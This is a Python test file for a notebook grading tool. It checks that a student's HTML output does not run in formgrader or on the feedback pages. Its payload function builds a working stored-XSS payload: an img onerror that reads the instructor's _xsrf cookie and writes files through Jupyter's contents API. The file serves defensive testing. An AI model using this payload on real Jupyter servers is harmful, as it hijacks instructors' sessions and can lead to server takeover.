"""A logged-in instructor in formgrader and in the feedback pages: a student's output must not run.

Two hw1 submissions display the same payload from an answer cell: an ``<img>`` whose ``onerror``
requests a loopback listener and writes a file through ``/api/contents`` with the instructor's
``_xsrf`` cookie (measured on main: it ran, and could open a root terminal the same way).

- ``x-xss`` is graded by the sandboxed grader: its payload must not run (the listener's counter for
  it stays 0, no file appears);
- ``x-raw`` is the control: the same graded notebook with the payload put back as main's grader kept
  it. It must run -- that proves the payload, the listener and the login work, so the 0 above means
  something. It is opened AFTER ``x-xss``, so by the time its request arrives, one from ``x-xss``
  would have too (no sleeps).

Formgrader's Autograde button runs nbgrader's own, unsandboxed autograde: it must refuse, say why,
and leave the sandboxed results in place.
"""

from __future__ import annotations

import os
import shutil
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from playwright.sync_api import expect

from conftest import IN_CI

AID = "hw1_matrix_gradients"


class Listener:
    """An HTTP server on 127.0.0.1 (free port) that counts the requests per path."""

    def __init__(self):
        hits: dict[str, int] = {}

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):
                hits[self.path] = hits.get(self.path, 0) + 1
                self.send_response(204)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()

            def log_message(self, *args):
                pass

        self.hits = hits
        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def close(self):
        self.server.shutdown()
        self.server.server_close()


def payload(port: int, tag: str) -> str:
    js = (
        f"fetch('http://127.0.0.1:{port}/{tag}', {{mode: 'no-cors'}});"
        "var x = (document.cookie.match(/_xsrf=([^;]+)/) || [])[1];"
        f"fetch('/api/contents/pwned-{tag}.txt', {{method: 'PUT', headers: {{'X-XSRFToken': x,"
        " 'Content-Type': 'application/json'}, body: JSON.stringify({type: 'file', format: 'text',"
        " content: 'pwned'})});"
    )
    return f'<img src="data:," onerror="{js}">'


@pytest.fixture(scope="module")
def graded(lab):
    if shutil.which("bwrap") is None or os.geteuid() != 0:
        if IN_CI:
            pytest.fail("CI=true but bubblewrap is missing (or not root): the sandboxed grader cannot run")
        pytest.skip("bubblewrap (bwrap) missing or not root")
    from coursegrader import nbutil, samples
    from coursegrader.autograde import grade_submissions
    from coursegrader.settings import Course

    listener = Listener()
    course = Course.at(lab.root)
    source = nbutil.read_nb(course.source / AID / f"{AID}.ipynb")
    release = nbutil.read_nb(course.release / AID / f"{AID}.ipynb")
    filled = samples.answers(source)
    target = next(g for g in filled if "def " in filled[g])
    for student in ("x-xss", "x-raw"):
        cell = f"\nfrom IPython.display import display, HTML\ndisplay(HTML({payload(listener.port, student)!r}))\n"
        nbutil.write_nb(
            course.submitted / student / AID / f"{AID}.ipynb",
            samples.fill(release, {**filled, target: filled[target] + cell}),
        )
    results = grade_submissions(course, [(AID, "x-xss"), (AID, "x-raw")], progress=False, engine="sandbox", jobs=1)
    assert all(r.ok and r.score == r.max_score for r in results), [(r.student, r.score, r.problem) for r in results]
    # the control: the payload put back into the graded notebook, as main's grader kept it
    raw = course.autograded / "x-raw" / AID / f"{AID}.ipynb"
    nb = nbutil.read_nb(raw)
    cell = next(c for c in nb["cells"] if nbutil.grade_id(c) == target)
    cell["outputs"].append(
        {
            "output_type": "display_data",
            "metadata": {},
            "data": {"text/html": payload(listener.port, "x-raw"), "text/plain": "<HTML>"},
        }
    )
    nbutil.write_nb(raw, nb)
    with course.gradebook() as gb:
        ids = {s: gb.find_submission_notebook(AID, AID, s).id for s in ("x-xss", "x-raw")}
    yield dict(course=course, listener=listener, ids=ids)
    listener.close()


def login(lab, page) -> None:
    """The instructor opens Lab with the token: the login and _xsrf cookies formgrader's calls use."""
    page.goto(f"{lab.url}/lab?reset&token={lab.token}")
    page.wait_for_function("() => document.cookie.includes('_xsrf')", timeout=60_000)


def _wait_for_file(lab, name: str) -> bool:
    """Whether the Jupyter server has the file (the contents API, as the payload used it)."""
    import urllib.error

    try:
        lab.api(f"/api/contents/{name}")
        return True
    except urllib.error.HTTPError:
        return False


def test_student_script_does_not_run_in_formgrader(lab, lab_page, graded):
    page, hits = lab_page, graded["listener"].hits
    login(lab, page)
    page.goto(f"{lab.url}/formgrader/submissions/{graded['ids']['x-xss']}/?token={lab.token}")
    expect(page.get_by_text("removed output of type text/html").first).to_be_visible(timeout=60_000)
    page.goto(f"{lab.url}/formgrader/submissions/{graded['ids']['x-raw']}/?token={lab.token}")
    page.wait_for_function("() => document.readyState === 'complete'")
    # the control ran: its request arrived and it wrote a file as the instructor
    for _ in range(600):
        if hits.get("/x-raw") and _wait_for_file(lab, "pwned-x-raw.txt"):
            break
        page.wait_for_timeout(100)
    assert hits.get("/x-raw", 0) >= 1 and _wait_for_file(lab, "pwned-x-raw.txt"), hits
    # the sandboxed grader's notebook: nothing ran
    assert hits.get("/x-xss", 0) == 0, hits
    assert not _wait_for_file(lab, "pwned-x-xss.txt")
    assert not (lab.root / "pwned-x-xss.txt").exists()


def test_formgraders_autograde_button_refuses_and_keeps_the_results(lab, lab_page, graded):
    page = lab_page
    graded_nb = graded["course"].autograded / "x-xss" / AID / f"{AID}.ipynb"
    before = graded_nb.read_bytes()
    login(lab, page)
    page.goto(f"{lab.url}/formgrader/manage_submissions/{AID}")
    row = page.locator("tr", has_text="x-xss")
    row.locator("td.autograde a").click()
    modal = page.locator("#error-modal")
    expect(modal).to_be_visible(timeout=60_000)
    expect(modal).to_contain_text("make autograde")
    expect(modal).to_contain_text("unsandboxed")
    assert graded_nb.read_bytes() == before


def test_feedback_page_runs_nothing(lab, page, graded):
    """The feedback page of x-xss opened from disk: no request; a copy with the payload forced back
    in is stopped by the page's Content-Security-Policy; a bare page with it (control) does run it."""
    from coursegrader import feedback

    course, listener = graded["course"], graded["listener"]
    out = feedback.generate(course, [(AID, "x-xss")], progress=False)
    assert out[0].ok, out[0].problem
    html = Path(out[0].pages[0]).read_text()
    assert "<script" not in html.lower()
    folder = Path(out[0].pages[0]).parent
    forced = html.replace("</body>", payload(listener.port, "fb-forced") + "</body>")
    (folder / "forced.html").write_text(forced)
    (folder / "control.html").write_text("<html><body>" + payload(listener.port, "fb-control") + "</body></html>")
    page.goto(Path(out[0].pages[0]).as_uri())
    page.wait_for_function("() => document.readyState === 'complete'")
    page.goto((folder / "forced.html").as_uri())
    page.wait_for_function("() => document.readyState === 'complete'")
    page.goto((folder / "control.html").as_uri())
    for _ in range(600):
        if listener.hits.get("/fb-control"):
            break
        page.wait_for_timeout(100)
    assert listener.hits.get("/fb-control", 0) >= 1, listener.hits
    assert not listener.hits.get("/fb-forced") and not any(k.startswith("/x-xss") for k in listener.hits)
